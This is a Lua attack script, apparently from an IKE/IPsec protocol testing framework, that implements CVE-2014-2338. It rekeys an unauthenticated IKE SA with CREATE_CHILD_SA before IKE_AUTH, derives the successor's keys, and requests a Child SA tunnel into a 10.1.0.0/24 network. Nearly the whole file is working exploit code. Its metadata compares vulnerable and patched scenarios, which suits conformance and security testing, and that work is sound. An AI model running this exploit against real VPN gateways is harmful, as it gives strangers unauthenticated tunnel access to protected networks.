-- IKE_SA_INIT gives keys to anybody. Who one is, IKE_AUTH says - unless one can go round it: by rekeying the IKE SA before it.
attack = {
  id = "CVE-2014-2338", name = "rekey-before-auth",
  about = "Rekeys an IKE SA that nobody has authenticated, and makes a Child SA under its successor",
  position = "off-path",
  needs = "nothing: no secret, no certificate",
  source = "CVE-2014-2338; RFC 7296, 1.2 and 2.18",
  shows = {
    vulnerable = "the successor is established: a stranger has an IKE SA and a tunnel, without IKE_AUTH",
    hardened = "CREATE_CHILD_SA is not due before IKE_AUTH: there is no answer",
  },
  scenarios = { vulnerable = "rekey-before-auth", hardened = "rekey-before-auth-patched" },
}

local caller = library "caller"

-- Parameters: target, own
local p, me, heir = nil, nil, nil
local goal = "have an IKE SA without authentication"

function on_start(params)
  p = params
  assert(p.target and p.own, "parameters target, own")
  timer.after("1s", "begin")
end
function on_timer() me = caller.call(p, "IKE_SA_INIT, as anybody may") end

on({ exchange = "IKE_SA_INIT", response = true }, function(_, message)
  if not me or not caller.answered(me, message) then return end
  heir = { line = p, pair = crypto.key_pair("x25519"), nonce = crypto.random(32), spi = bytes.hex(crypto.random(8)), suite = me.suite }
  local proposal = caller.ike_proposal()
  proposal.spi = bytes.from_hex(heir.spi)
  caller.request(me, 36, 1, { ike.sa(proposal), ike.nonce(heir.nonce), ike.ke(heir.pair) },
    "CREATE_CHILD_SA that rekeys the IKE SA, in the place of IKE_AUTH")
end)

on({ exchange = "CREATE_CHILD_SA", response = true }, function(packet, message)
  local inner = me and ring.open(packet)
  if not inner then return end
  if message.spi_i == me.spi then
    local sa = find(inner, "SA")
    if not sa then return achieved(goal, false, "the rekey was refused") end
    heir.spi_r = bytes.hex(sa.proposals[1].spi)
    heir.keys = ike.keys(me.suite, { ni = heir.nonce, nr = find(inner, "Ni/Nr").data, shared = crypto.shared(heir.pair, find(inner, "KE").data),
      spi_i = heir.spi, spi_r = heir.spi_r, sk_d_old = me.keys.sk_d })
    ring.ike(heir.spi, me.suite, heir.keys)
    learn("SK_*", "all keys of the new IKE SA " .. heir.spi, "a rekey of its own, with the old SK_d", heir.keys.sk_d)
    caller.request(heir, 36, 0, { ike.nonce(crypto.random(32)), caller.child("10.1.0.0", "10.1.0.255") },
      "CREATE_CHILD_SA under the successor: a tunnel for a stranger")
  elseif heir and message.spi_i == heir.spi and not heir.done then
    heir.done = true
    achieved(goal, true, find(inner, "SA") and "an IKE SA and a Child SA into the network behind it, and nobody asked who it is"
      or "an IKE SA; the Child SA was refused")
  end
end)

function on_finish()
  if not (heir and heir.done) then achieved(goal, false, "no answer to a rekey before IKE_AUTH") end
end
